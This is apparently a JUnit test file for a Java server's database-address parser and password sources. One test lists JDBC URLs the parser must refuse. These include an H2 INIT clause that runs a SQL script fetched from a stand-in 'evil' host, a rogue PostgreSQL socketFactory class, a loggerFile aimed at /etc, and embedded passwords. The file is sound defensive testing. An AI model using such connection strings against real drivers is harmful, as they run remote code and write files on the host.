package io.wua.server.store;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.wua.core.failure.FailureReason;
import io.wua.core.failure.WuaException;
import io.wua.server.store.connect.DatabaseAddress;
import io.wua.server.store.connect.PasswordSource;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DatabaseAddressTest {
  @Test
  void refusesOtherDatabasesAndWhatMakesADriverDoMoreThanConnect() {
    for (String url :
        List.of(
            "jdbc:h2:mem:x",
            "jdbc:h2:tcp://host/x",
            "jdbc:h2:~/x",
            "jdbc:h2:file:",
            "jdbc:h2:file:/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
            "jdbc:h2:file:/x;TRACE_LEVEL_FILE=3",
            "jdbc:mysql://host/x",
            "jdbc:postgresql://host/x?socketFactory=org.example.Evil",
            "jdbc:postgresql://host/x?sslmode=require&loggerFile=/etc/x",
            "jdbc:postgresql://host/x?password=secret",
            "jdbc:postgresql://me:secret@host/x")) {
      WuaException refusal =
          assertThrows(WuaException.class, () -> DatabaseAddress.parse(url), () -> url);
      assertEquals(FailureReason.CONFIGURATION, refusal.reason());
      assertFalse(String.valueOf(refusal.getMessage()).contains("secret"), url);
    }
  }

  @Test
  void takesAFileAndAServer() throws WuaException {
    assertTrue(DatabaseAddress.parse("jdbc:h2:file:data/wua").url().contains(";MODE=PostgreSQL"));
    String url = "jdbc:postgresql://host:5432/wua?sslmode=verify-full&sslrootcert=/etc/root.pem";
    assertEquals(url, DatabaseAddress.parse(url).url());
  }

  @Test
  void readsThePasswordFromTheFirstLineOfAFile(@TempDir Path folder)
      throws IOException, WuaException {
    Path file = Files.writeString(folder.resolve("password"), "s3cret\nmore\n");

    assertEquals("s3cret", new PasswordSource.InFile(file).read());
    assertThrows(
        WuaException.class, () -> new PasswordSource.InFile(folder.resolve("none")).read());
    assertThrows(
        WuaException.class, () -> new PasswordSource.InEnvironment("WUA_NO_SUCH_NAME").read());
  }
}
